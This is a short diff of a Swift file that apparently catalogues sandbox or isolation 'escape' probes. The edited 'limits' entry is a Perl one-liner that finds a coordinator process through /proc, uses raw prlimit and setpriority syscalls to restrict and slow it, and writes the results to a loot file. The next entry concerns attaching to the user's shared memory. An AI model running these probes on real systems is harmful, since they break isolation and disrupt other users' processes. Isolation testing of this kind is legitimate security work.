@@ -107,9 +107,9 @@ struct Escape: Sendable {
         Escape(
             name: "limits", what: "sets the limits and the priority of the coordinator",
             script: """
-                perl -e 'my $l = "\\0" x 16; for (glob "/proc/[0-9]*") { m,(\\d+)$,; open F, "/proc/$1/cmdline"; my $c = <F>;
-                  next unless $c =~ /orchestrate\\0migrate/; print "limited\\n" if syscall(302, $1 + 0, 7, $l, 0) == 0;
-                  print "slowed\\n" if syscall(141, 0, $1 + 0, 1) == 0 }' >>$LOOT
+                perl -e 'my $l = "\\0" x 16; for (glob "/proc/[0-9]*") { m,(\\d+)$,; my $p = $1 + 0; open F, "/proc/$p/cmdline"; my $c = <F>;
+                  next unless $c =~ /orchestrate\\0migrate/; print "limited\\n" if syscall(302, $p, 7, $l, 0) == 0;
+                  print "slowed\\n" if syscall(141, 0, $p, 1) == 0 }' >>$LOOT
                 """),
         Escape(
             name: "shared-memory", what: "attaches to shared memory and queues of the user's",
